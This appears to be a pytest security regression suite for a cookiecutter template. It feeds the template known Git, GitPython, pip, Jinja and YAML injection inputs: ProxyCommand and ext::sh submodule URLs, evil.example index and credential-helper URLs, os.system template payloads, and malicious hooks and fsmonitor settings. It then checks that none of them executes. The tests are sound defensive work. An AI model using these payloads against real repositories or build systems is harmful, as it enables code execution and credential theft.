"""Past attacks on templates, on Git's submodules and on requirements files: none of them runs anything here.

Each would touch a canary, a file `canary` anywhere that a run may write to, and each is tried with a whole run. The
CVEs are Git's, GitPython's, pip's, Jinja's and cookiecutter's own, as their release notes tell them.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import sys
from pathlib import Path
from typing import NamedTuple

import pytest

from making.answers import find_problems
from tests.support import packages, servers
from tests.support.answers import make_answers, write_replay_file
from tests.support.baking import SLUG, git
from tests.support.commands import run
from tests.support.forked_programs import cookiecutter
from tests.support.packages import Commit, Gitlink, Link, Program
from tests.support.places import TEMPLATE

LIBRARY = "https://github.com/acme/beams.git"
TOUCH = "touch canary"
PYTHON = "cycler.__init__.__globals__.os.system('touch canary')"
FROM_INDEX = {"index_url": "https://robot@pypi.example.com/simple"}
FROM_GIT = {"index_url": "https://github.com/acme"}


def attack(name: str, question: str, answer: str, says: str, **others) -> object:
    """Return one attack: what it is known as, the answer, and what the template says of it."""
    return pytest.param(others | {question: answer}, question, says, id=f"{name} {ascii(answer)[:40]}")


REFUSED = [
    # Git runs what a URL names
    attack(
        "CVE-2017-1000117", "submodules", "ssh://-oProxyCommand=touch%20canary/x.git", "no valid host name"
    ),
    attack("CVE-2017-1000117", "submodules", "git@-oProxyCommand=canary:x.git", "no valid host name"),
    attack(
        "CVE-2018-17456", "submodules", "--upload-pack=touch${IFS}canary", "a character that has no place"
    ),
    attack("CVE-2018-17456", "submodules", "-u./canary", "isn't the URL of a Git repository"),
    attack(
        "CVE-2018-17456", "submodules", f"{LIBRARY}#--upload-pack=canary", "no valid branch, tag or commit"
    ),
    attack("CVE-2022-24439", "submodules", f"ext::sh -c {TOUCH}", "isn't the URL of a Git repository"),
    attack(
        "CVE-2022-24439", "submodules", "ext::sh%20-c%20touch%20canary", "isn't the URL of a Git repository"
    ),
    attack("CVE-2022-24439", "submodules", "fd::17/canary", "isn't the URL of a Git repository"),
    attack("CVE-2022-39253", "submodules", "file:///etc/canary.git", "isn't the URL of a Git repository"),
    attack("CVE-2024-32004", "submodules", "/home/other/canary.git", "isn't the URL of a Git repository"),
    attack("CVE-2024-32465", "submodules", "../canary.git", "isn't the URL of a Git repository"),
    # Git writes where a name leads to
    attack(
        "CVE-2018-11235", "submodules", f"../../modules/canary={LIBRARY}", "isn't the URL of a Git repository"
    ),
    attack("CVE-2018-11235", "submodules", f"..={LIBRARY}", "isn't a legal name"),
    attack(
        "CVE-2019-1387", "submodules", f"a={LIBRARY} a/hooks={LIBRARY}", "isn't the URL of a Git repository"
    ),
    attack("CVE-2019-1352", "submodules", f"git~1={LIBRARY}", "isn't a legal name"),
    attack("CVE-2019-1353", "submodules", f".git={LIBRARY}", "isn't a legal name"),
    attack("CVE-2019-1354", "submodules", f"a\\canary={LIBRARY}", "isn't a legal name"),
    attack("CVE-2021-21300", "submodules", f"A={LIBRARY} a={LIBRARY}", "the same folder"),
    attack("CVE-2024-32002", "submodules", f"Hooks={LIBRARY} hooks={LIBRARY}", "the same folder"),
    attack("CVE-2025-48384", "submodules", f"canary\r={LIBRARY}", "isn't the URL of a Git repository"),
    # Git's credential helpers give a login to another host
    attack(
        "CVE-2020-5260", "submodules", "https://evil.example%0ahost=github.com/x.git", "no place in a URL"
    ),
    attack("CVE-2020-11008", "submodules", "https:///canary.git", "isn't the URL of a Git repository"),
    attack("CVE-2024-50349", "submodules", "https://evil.example%1b[2J/x.git", "no place in a URL"),
    attack(
        "CVE-2024-52006", "submodules", "https://evil.example%0dhost=github.com/x.git", "no place in a URL"
    ),
    # GitPython takes a ref for a path or an option
    attack(
        "CVE-2023-41040", "submodules", f"{LIBRARY}#../../../../etc/canary", "no valid branch, tag or commit"
    ),
    attack("CVE-2026-44243", "submodules", f"{LIBRARY}#refs/../../canary", "no valid branch, tag or commit"),
    attack("CVE-2023-40267", "submodules", f"{LIBRARY}#-c/canary", "no valid branch, tag or commit"),
    # pip takes a package from elsewhere, or runs what a line says
    attack("CVE-2018-20225", "private_packages", "canary", "no upper bound", **FROM_INDEX),
    attack("CVE-2018-20225", "private_packages", "canary>=1", "no upper bound", **FROM_INDEX),
    attack(
        "options",
        "private_packages",
        "a==1\n--index-url https://evil.example/",
        "isn't a package",
        **FROM_INDEX,
    ),
    attack("options", "private_packages", "-r/tmp/canary.txt", "isn't a package", **FROM_INDEX),
    attack("options", "private_packages", "-e./canary", "isn't a package", **FROM_INDEX),
    attack("options", "private_packages", "a==1;--config-settings=canary", "isn't a package", **FROM_INDEX),
    attack("URL", "private_packages", "canary@file:///tmp/canary.whl", "tag or a commit", **FROM_GIT),
    attack(
        "CVE-2023-5752", "private_packages", "a@--config=hooks.update=touch", "tag or a commit", **FROM_GIT
    ),
    attack("CVE-2021-3572", "private_packages", "a@v1\u2028canary", "comes straight from Git", **FROM_GIT),
    attack("options", "index_url", "--trusted-host evil.example", "more than a URL", private_packages="a==1"),
    attack(
        "options",
        "index_url",
        "--find-links https://evil.example/x",
        "more than a URL",
        private_packages="a==1",
    ),
    attack("options", "index_url", "https://a.b/x\n--pre", "more than a URL", private_packages="a==1"),
    attack(
        "variables", "index_url", "https://robot:${PATH}@a.b/x", "the variable PATH", private_packages="a==1"
    ),
    attack("http", "index_url", "http://evil.example/simple", "https://", private_packages="a==1"),
    # Files are written where they shouldn't, or hold more than a line
    attack("CVE-2007-4559", "app_slug", "../../canary", "isn't a name"),
    attack("paths", "app_slug", "/srv/canary", "isn't a name"),
    attack("devices", "app_slug", "con", "device"),
    attack("TOML", "app_slug", 'a"\ncanary = "x', "isn't a name"),
    attack("YAML", "app_name", "App\nsteps: [{run: touch canary}]", "line break"),
    attack("YAML", "python_version", f"3.14'; {TOUCH}; '", "isn't a Python"),
    attack("CI", "ci", "../github", "isn't one of the choices"),
    # Readers see something else than machines
    attack("CVE-2021-42574", "description", "an app \u202e\u2066 yranac \u2069", "invisible character"),
    attack("CVE-2021-42694", "submodules", "https://g\u0456thub.com/acme/beams.git", "no place in a URL"),
    attack("CVE-2003-0063", "author", "Ada\x1b]2;touch canary\x07", "invisible character"),
]


@pytest.mark.parametrize(("answers", "question", "says"), REFUSED)
def test_an_answer_is_refused(answers, question, says):
    problems = [one for one in find_problems(make_answers(**answers)) if one.questions == (question,)]
    assert says in "".join(one.wrong for one in problems)


@pytest.fixture
def machine(tmp_path):
    """Give the folders that a run may write to."""
    for name in ("apps", "work", "temporary"):
        (tmp_path / name).mkdir()
    return tmp_path


def make(machine: Path, status: int | None, **answers) -> str:
    """Run cookiecutter with answers that are taken as they are, and return what was printed."""
    replay = write_replay_file(machine / "replay.json", **answers)
    variables = dict.fromkeys(("TMPDIR", "TEMP", "TMP"), str(machine / "temporary"))
    words = (TEMPLATE, "--output-dir", machine / "apps", "--replay-file", replay)
    return cookiecutter(*words, cwd=machine / "work", env=variables, status=status)


def assert_no_canary(machine: Path) -> None:
    """Check that nothing was run that touches a canary."""
    folders = (machine, Path(os.environ["HOME"]))
    assert [found for folder in folders for found in folder.rglob("*canary*")] == []


def test_nothing_of_a_refused_answer_runs(machine):
    """All of them at once: a whole run ends before a file is written."""
    answers: dict[str, list[str]] = {}
    for case in REFUSED:
        given, question, _ = case.values
        answers.setdefault(question, []).append(given[question])
    said = make(machine, 1, **{question: " ".join(texts) for question, texts in answers.items()})
    assert "no file was written." in said
    for question in answers:
        assert f"\n\n{question}\n" in said
    assert list((machine / "apps").iterdir()) == []
    assert_no_canary(machine)


# Answers that are texts, three to an app
TEXTS = {
    "Jinja": (
        "{{ " + PYTHON + " }}",
        "{{ '{0.__class__}'.format(cookiecutter) }}",
        "{% for c in [].__class__.__base__ %}",
    ),
    "CI": (
        "${{ github.event.issue.title }} $(touch canary)",
        "##vso[task.setvariable variable=PATH]canary",
        "$CANARY && touch canary",
    ),
    "YAML, Python and shells": (
        "!!python/object/apply:os.system ['touch canary']",
        '"; touch canary; " \'; touch canary; # \\"',
        '"""; import os; os.system("touch canary"); """',
    ),
}


@pytest.mark.parametrize("texts", TEXTS.values(), ids=TEXTS)
def test_a_text_is_data(texts, machine):
    """It is taken, stands in README.md alone, and is run by nobody: not by the app's own tests either."""
    make(machine, 0, **dict(zip(("app_name", "description", "author"), texts, strict=True)))
    app = machine / "apps" / SLUG
    holders = [file for file in app.rglob("*") if file.is_file() and b"canary" in file.read_bytes()]
    assert {file.relative_to(app).parts[0] for file in holders} <= {"README.md"}
    for words in ("preflight --offline", "unittest discover -s tests -p test_calculation.py"):
        run(sys.executable, "-m", *words.split(), cwd=app)
    assert_no_canary(machine)


# Repositories


class Attack(NamedTuple):
    """A repository: what the attack is known as, its files, and what the template says of it, if anything."""

    name: str
    files: dict[str, str]
    says: str = ""


def nested(settings: str, *, name: str = "inner", path: str = "inner") -> dict[str, str]:
    """Return the files of a repository with a submodule, whose entry in .gitmodules has these settings."""
    quoted = path.replace("\r", "\\r")
    return {
        ".gitmodules": f'[submodule "{name}"]\n\tpath = "{path}"\n{settings}',
        f'"{quoted}"': Gitlink("{inner}"),
    }


HOOK = "#!/bin/sh\ntouch canary\n"
NOT_FETCHED = "app/submodules/{name} has submodules of its own that could not be fetched."
URL = "\turl = {url}/inner.git\n"
REPOSITORIES = [
    Attack("CVE-2018-11235", nested(URL, name="../../canary"), NOT_FETCHED),
    Attack("CVE-2018-17456", nested("\turl = --upload-pack=touch canary\n"), NOT_FETCHED),
    Attack("CVE-2015-7545", nested("\turl = ext::sh -c touch% canary\n"), "transport 'ext' not allowed"),
    Attack("CVE-2022-39253", nested("\turl = {folder}/inner.git\n"), "transport 'file' not allowed"),
    Attack("CVE-2017-1000117", nested("\turl = ssh://-oProxyCommand=touch% canary/x\n"), NOT_FETCHED),
    Attack("CVE-2020-5260", nested('\turl = "https://127.0.0.1:1\\nhost=evil.example/x"\n'), NOT_FETCHED),
    Attack(
        "CVE-2024-32002",
        {
            ".gitmodules": '[submodule "x/y"]\n\tpath = A/modules/x\n' + URL,
            "A/modules/x": Gitlink("{inner}"),
            "a": Link(".git"),
        },
    ),
    Attack(
        "CVE-2022-24765",
        {
            "hooks/post-checkout": Program(HOOK),
            ".gitconfig": "[core]\n\thooksPath = hooks\n\tfsmonitor = touch canary\n",
            ".gitattributes": "* filter=canary diff=canary merge=canary\n",
        },
    ),
    Attack(
        "CVE-2022-41953",
        {
            "bare/HEAD": "ref: refs/heads/main\n",
            "bare/config": "[core]\n\tbare = false\n\tworktree = ..\n\tfsmonitor = touch canary\n",
            "bare/objects/.keep": "",
            "bare/refs/.keep": "",
        },
    ),
]
# Git without the mend of July 2025 can't add this one: then no app is made.
REFUSED_BY_OLD_GIT = Attack("CVE-2025-48384", nested(URL, path="inner\r"))
# Git itself refuses to look at these, so no app is made.
REFUSED_BY_GIT = [
    Attack(
        "CVE-2019-19604",
        nested(URL + "\tupdate = !touch canary\n"),
        "invalid value for 'submodule.inner.update'",
    ),
    Attack(
        "broken", {".gitmodules": "[submodule\n", "inner": Gitlink("{inner}")}, "bad config line 1 in file"
    ),
]


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    """Give the folder of the repositories, their URL, and the commit of the one that is nested in others."""
    folder = tmp_path_factory.mktemp("server")
    files = {"inner/__init__.py": "", "post-checkout": Program(HOOK), "hooks/post-checkout": Program(HOOK)}
    packages.repository(folder / "inner.git", Commit(files))
    with servers.git_daemon(folder) as url:
        yield folder, url, git(folder / "inner.git", "rev-parse", "HEAD")


def serve(attacks: list[Attack], server: tuple) -> str:
    """Make a repository of each attack, and return the answer that adds them all."""
    folder, url, inner = server
    known = {"{url}": url, "{folder}": folder.as_posix(), "{inner}": inner}
    for attack in attacks:
        files = {path: filled(text, known) for path, text in attack.files.items()}
        packages.repository(folder / f"{attack.name}.git", Commit({"part/__init__.py": "", **files}))
    return " ".join(f"{url}/{attack.name}.git" for attack in attacks)


def test_nothing_in_a_repository_is_run(server, machine):
    """Not when it is added, nor by preflight, nor by what the template says to type."""
    said = make(machine, 0, submodules=serve(REPOSITORIES, server))
    for attack in REPOSITORIES:
        assert attack.says.format(name=attack.name) in said
    told, commands = look_at(machine / "apps" / SLUG, said)
    for attack in REPOSITORIES:
        if attack.says:
            assert f"app/submodules/{attack.name}/inner: is empty" in told
    assert len(commands) > len(REPOSITORIES)
    assert_no_canary(machine)


def look_at(app: Path, said: str) -> tuple[str, list[str]]:
    """Let preflight look at an app, type each command that was said, and return what preflight told, and these."""
    told = run(sys.executable, "-m", "preflight", "--offline", cwd=app, status=1)
    assert "preflight itself fails" not in told
    commands = re.findall(
        r"(?:^ +|-> )(git (?:-C \S+ )?submodule update[^;(\n']*)(?=[;(\n])", said + told, re.MULTILINE
    )
    for command in commands:
        run(*shlex.split(command), cwd=app, status=None)
    return told, commands


def test_what_some_git_refuses_is_not_run(server, machine):
    """Neither by a Git that can't add such a repository, nor by one that can, nor by preflight then."""
    said = make(machine, None, submodules=serve([REFUSED_BY_OLD_GIT], server))
    app = machine / "apps" / SLUG
    if app.is_dir():
        assert " is ready." in said
        look_at(app, said)
    else:
        assert "inner" in said
    assert_no_canary(machine)


@pytest.mark.parametrize("attack", REFUSED_BY_GIT, ids=lambda attack: attack.name)
def test_what_git_refuses_is_said(attack, server, machine):
    said = make(machine, 1, submodules=serve([attack], server))
    assert attack.says in said
    assert f"app/submodules/{attack.name}" in said
    assert list((machine / "apps").iterdir()) == []
    assert_no_canary(machine)


def test_nothing_is_fetched_that_a_server_names(server, machine, monkeypatch):
    """CVE-2025-48385: a bundle, from anywhere, by a Git that is set to take it. Git before 2.40 has no such setting."""
    folder, *_ = server
    packages.repository(folder / "bundles.git", Commit({"part/__init__.py": ""}))
    settings = Path(os.environ["GIT_CONFIG_GLOBAL"]).read_text(encoding="utf-8")
    config, trace, asked = machine / "gitconfig", machine / "trace", []
    config.write_text(f"{settings}[transfer]\n\tbundleURI = true\n", encoding="utf-8")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(config))
    monkeypatch.setenv("GIT_TRACE2_EVENT", str(trace))
    monkeypatch.setenv("GIT_TRACE2_CONFIG_PARAMS", "transfer.bundleuri")
    elsewhere = servers.web_server(lambda _: servers.Answer(404), asked=asked)
    with servers.git_http(folder, {}) as url, elsewhere as other_url:
        settings = {
            "uploadpack.advertiseBundleURIs": "true",
            "bundle.version": "1",
            "bundle.mode": "all",
            "bundle.canary.uri": f"{other_url}/canary.bundle",
        }
        for name, value in settings.items():
            git(folder / "bundles.git", "config", name, value)
        make(machine, 0, submodules=f"{url}/bundles.git")
    assert asked == []
    events = [json.loads(line) for line in trace.read_text(encoding="utf-8").splitlines()]
    clone = next(event["sid"] for event in events if event["event"] == "start" and "clone" in event["argv"])
    values = [event["value"] for event in events if event["sid"] == clone and event["event"] == "def_param"]
    assert values[-1] == "false"


def filled(text: str, known: dict[str, str]) -> str:
    """Return a file's text, of its own kind, with what is known only now filled in."""
    whole = text
    for word, value in known.items():
        whole = whole.replace(word, value)
    return type(text)(whole)
